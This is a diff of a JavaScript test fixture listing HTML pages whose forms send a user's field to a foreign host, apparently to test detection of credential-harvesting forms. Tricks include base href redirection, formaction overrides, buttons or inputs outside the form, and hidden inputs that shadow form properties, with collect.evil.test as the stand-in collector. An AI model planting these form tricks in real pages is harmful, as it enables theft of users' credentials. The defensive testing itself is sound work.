@@ -15,12 +15,11 @@ const ENOUGH = 1500;
 const FOREIGN = new Map(Object.entries({
   '/action': [`${TEXT}<form method="post" action="${EVIL}">${FIELD}<button>Verify</button></form>`, 'collect.evil.test'],
   '/base': [`<base href="https://collect.evil.test/">${TEXT}<form method="post" action="take">${FIELD}<button>Verify</button></form>`, 'collect.evil.test'],
-  '/base-and-space': [`<base href="https://collect.evil.test/">${TEXT}<form method="post" action=" ">${FIELD}<button>Verify</button></form>`, 'collect.evil.test'],
   '/button': [`${TEXT}<form method="post">${FIELD}<button>Verify</button><button formaction="${EVIL}">Go on</button></form>`, 'collect.evil.test'],
   '/button-outside': [`<button form="f" formaction="${EVIL}">Verify</button>${TEXT}<form id="f" method="post">${FIELD}</form>`, 'collect.evil.test'],
   '/picture': [`${TEXT}<form method="post">${FIELD}<input type="image" alt="Verify" formaction="${EVIL}"></form>`, 'collect.evil.test'],
   '/field-outside': [`<form id="f" method="post" action="${EVIL}"><button>Verify</button></form>${TEXT}${FIELD.replace('<input', '<input form="f"')}`, 'collect.evil.test'],
-  '/hidden-names': [`${TEXT}<form method="post" action="${EVIL}">${FIELD}<input type="hidden" name="action" value="/"><input type="hidden" name="method"><input type="hidden" name="elements"><button>Verify</button></form>`, 'collect.evil.test'],
+  '/hidden-names': [`${TEXT}<form method="post" action="${EVIL}">${FIELD}<input type="hidden" name="action"><input type="hidden" name="method"><input type="hidden" name="elements"><button>Verify</button></form>`, 'collect.evil.test'],
   '/dialog-and-button': [`${TEXT}<form method="dialog" action="${EVIL}">${FIELD}<button formmethod="post">Verify</button></form>`, 'collect.evil.test'],
   '/plain-http': [`${TEXT}<form method="post" action="http://northbank.test/take">${FIELD}<button>Verify</button></form>`, 'northbank.test'],
   '/other-port': [`${TEXT}<form method="post" action="https://northbank.test:8443/take">${FIELD}<button>Verify</button></form>`, 'northbank.test:8443'],
